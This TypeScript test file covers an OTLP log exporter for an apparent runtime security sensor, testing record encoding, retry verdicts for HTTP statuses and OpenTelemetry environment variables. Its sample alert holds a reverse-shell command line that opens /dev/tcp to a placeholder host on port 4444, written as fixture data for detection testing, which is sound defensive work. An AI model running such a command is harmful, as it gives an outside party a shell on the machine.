import fc from 'fast-check'
import { afterEach, expect, test } from 'vitest'
import { type OtlpConfig, otlp } from '../../exporters/otlp.ts'
import type { Receiver } from '../../exporters/receiver.ts'
import type { Alert } from '../../sensor/alert.ts'
import { anyAlert } from './any-alert.ts'
import { type Collector, collector, partialSuccess } from './collector.ts'
import { bareAlert, sampleAlert } from './sample.ts'

const open: { close(): Promise<void> }[] = []
afterEach(async () => {
  for (const one of open.splice(0).reverse()) await one.close()
})

async function listening(...answer: Parameters<typeof collector>): Promise<Collector> {
  const one = await collector(...answer)
  open.push(one)
  return one
}

async function receiver(config: OtlpConfig, environment: Record<string, string> = {}): Promise<Receiver> {
  const one = await otlp(config, environment)
  if (one === undefined) throw new Error('no receiver')
  open.push(one)
  return one
}

const send = (to: Receiver, ...alerts: Alert[]) => to.attempt(alerts, AbortSignal.timeout(10_000))

test('an alert arrives as a log record, by names of the semantic conventions', async () => {
  const { url, exports } = await listening()
  expect(await send(await receiver({ endpoint: url }), sampleAlert())).toEqual({ verdict: 'delivered' })
  const [{ path, headers, resources } = { path: '', headers: {}, resources: [] }] = exports
  expect([path, headers['content-type'], headers['content-encoding']]).toEqual([
    '/v1/logs',
    'application/x-protobuf',
    'gzip',
  ])
  expect(resources).toMatchObject([
    {
      scope: 'nightjar',
      attributes: {
        'service.name': 'nightjar',
        'host.name': 'node-1',
        'os.type': 'linux',
        'k8s.node.name': 'node-1',
        'k8s.cluster.name': 'prod-eu',
      },
      records: [
        {
          body: 'bash takes its commands from 203.0.113.9:4444',
          severity_number: 'FATAL',
          severity_text: 'CRITICAL',
          event_name: 'nightjar.alert',
          attributes: {
            'process.pid': 4711,
            'process.parent_pid': 4700,
            'process.executable.path': '/usr/bin/bash',
            'process.command_args': ['bash', '-c', "echo 'it works'; exec 3<>/dev/tcp/203.0.113.9/4444"],
            'process.user.name': 'www-data',
            'destination.address': '2001:db8::9',
            'destination.port': 4444,
            'network.transport': 'tcp',
            'container.image.name': 'registry.example/shop/checkout:1.4.2',
            'k8s.namespace.name': 'payments',
            'k8s.pod.name': 'checkout-7d9f-x2x',
            'k8s.pod.label.app': 'checkout',
            'nightjar.rule.id': 'reverse-shell',
            'nightjar.rule.tags.mitre': ['T1059.004', 'T1071'],
            'nightjar.identity.subject': 'system:serviceaccount:payments:checkout',
            'nightjar.priority': 95,
            'nightjar.count': 3,
          },
        },
      ],
    },
  ])
})

test('the time is exact to the last digit that the alert has', async () => {
  const { url, exports } = await listening()
  await send(await receiver({ endpoint: url }), sampleAlert({ time: '2026-03-01T12:34:56.789123Z' }))
  expect(exports[0]?.resources[0]?.records[0]?.nanoseconds).toBe(
    BigInt(Date.UTC(2026, 2, 1, 12, 34, 56)) * 1_000_000n + 789_123_000n,
  )
})

test('any alert can be sent and read again', async () => {
  const { url, exports } = await listening()
  const to = await receiver({ endpoint: url })
  await fc.assert(
    fc.asyncProperty(anyAlert, async (alert) => {
      expect(await send(to, alert)).toEqual({ verdict: 'delivered' })
      expect(exports.at(-1)?.resources[0]?.records[0]?.body).toBe(alert.message.toWellFormed())
    }),
    { numRuns: 50 },
  )
})

test('a batch is one request; alerts of several nodes are several resources', async () => {
  const { url, exports } = await listening()
  const elsewhere = { host: { name: 'node-2' }, sensor: { version: '0.1.0', node: 'node-2', lost_events: 0 } }
  await send(await receiver({ endpoint: url }), sampleAlert(), bareAlert(elsewhere), bareAlert(elsewhere))
  expect(exports.map(({ resources }) => resources.map(({ records }) => records.length))).toEqual([[1, 2]])
})

test('records that the collector rejects are told of, and not tried again', async () => {
  const { url } = await listening((response) => {
    response.writeHead(200).end(partialSuccess(2, 'too \u001b[31mold'))
  })
  const outcome = await send(await receiver({ endpoint: url }), bareAlert(), bareAlert(), bareAlert())
  expect(outcome).toEqual({
    verdict: 'delivered',
    refused: 2,
    detail: '2 records rejected: too \\x1b[31mold',
  })
})

test('an answer of 200 that is no message of OTLP, or only warns, is a delivery', async () => {
  const answers = ['not protobuf at all', partialSuccess(0, 'a warning'), '{"partialSuccess":{}}']
  const { url } = await listening((response, index) => {
    response.writeHead(200).end(answers[index])
  })
  const to = await receiver({ endpoint: url })
  for (const _ of answers) expect(await send(to, bareAlert())).toEqual({ verdict: 'delivered' })
})

test.each([
  [429, 'failed'],
  [502, 'failed'],
  [503, 'failed'],
  [504, 'failed'],
  [400, 'refused'],
  [404, 'refused'],
  [500, 'refused'],
])('status %d: %s', async (status, verdict) => {
  const { url } = await listening((response) => response.writeHead(status, { 'retry-after': '3' }).end())
  const outcome = await send(await receiver({ endpoint: url }), bareAlert())
  expect(outcome.verdict).toBe(verdict)
  if (outcome.verdict === 'failed') expect(outcome.retryAfter).toBe(3000)
})

test('without compression, with headers of the configuration', async () => {
  const { url, exports } = await listening()
  const to = await receiver({ endpoint: `${url}/tenant/v1/logs`, compression: 'none', headers: { 'X-Scope': 'a' } })
  await send(to, bareAlert())
  expect(exports[0]?.path).toBe('/tenant/v1/logs')
  expect(exports[0]?.headers['content-encoding']).toBeUndefined()
  expect(exports[0]?.headers['x-scope']).toBe('a')
})

test("OpenTelemetry's own variables say the endpoint, headers, timeout and resource", async () => {
  const { url, exports } = await listening()
  const to = await receiver(
    {},
    {
      OTEL_EXPORTER_OTLP_ENDPOINT: `${url}/base/`,
      OTEL_EXPORTER_OTLP_HEADERS: 'Authorization=Bearer%20abc, x-a = 1',
      OTEL_EXPORTER_OTLP_TIMEOUT: '1234',
      OTEL_EXPORTER_OTLP_COMPRESSION: 'none',
      OTEL_RESOURCE_ATTRIBUTES: 'deployment.environment.name=prod%20eu,service.name=other',
      OTEL_SERVICE_NAME: 'sensor',
    },
  )
  expect([to.timeout, to.address]).toEqual([1234, url])
  await send(to, bareAlert())
  expect(exports[0]).toMatchObject({
    path: '/base/v1/logs',
    headers: { authorization: 'Bearer abc', 'x-a': '1' },
    resources: [{ attributes: { 'deployment.environment.name': 'prod eu', 'service.name': 'sensor' } }],
  })
})

test('the variables for logs come first, and their endpoint is taken as it is; the configuration comes before both', async () => {
  const { url, exports } = await listening()
  const environment = {
    OTEL_EXPORTER_OTLP_ENDPOINT: 'http://127.0.0.1:1',
    OTEL_EXPORTER_OTLP_LOGS_ENDPOINT: `${url}/custom`,
    OTEL_EXPORTER_OTLP_HEADERS: 'x-a=all',
    OTEL_EXPORTER_OTLP_LOGS_HEADERS: 'x-a=logs',
  }
  await send(await receiver({}, environment), bareAlert())
  await send(await receiver({ endpoint: url, headers: { 'x-a': 'configured' } }, environment), bareAlert())
  expect(exports.map(({ path, headers }) => [path, headers['x-a']])).toEqual([
    ['/custom', 'logs'],
    ['/v1/logs', 'configured'],
  ])
})

test('nothing is sent where nobody named an endpoint', async () => {
  expect(await otlp({}, {})).toBeUndefined()
  expect(await otlp({ endpoint: null }, { OTEL_EXPORTER_OTLP_ENDPOINT: '' })).toBeUndefined()
})

test.each([
  [{ endpoint: 'collector:4318' }, {}, 'exporters.otlp: endpoint: found something else than an http or https URL'],
  [
    {},
    { OTEL_EXPORTER_OTLP_ENDPOINT: 'http://c:4317', OTEL_EXPORTER_OTLP_PROTOCOL: 'grpc' },
    'OTEL_EXPORTER_OTLP_PROTOCOL: found "grpc", expected http/protobuf',
  ],
  [
    { endpoint: 'http://c:4318' },
    { OTEL_EXPORTER_OTLP_TIMEOUT: 'soon' },
    'OTEL_EXPORTER_OTLP_TIMEOUT: found "soon", expected milliseconds',
  ],
  [
    { endpoint: 'http://c:4318' },
    { OTEL_EXPORTER_OTLP_HEADERS: 'secretvalue' },
    'OTEL_EXPORTER_OTLP_HEADERS: found an entry without "="',
  ],
])('%j with %j is refused in words', async (config, environment, message) => {
  await expect(otlp(config, environment)).rejects.toThrow(message)
})
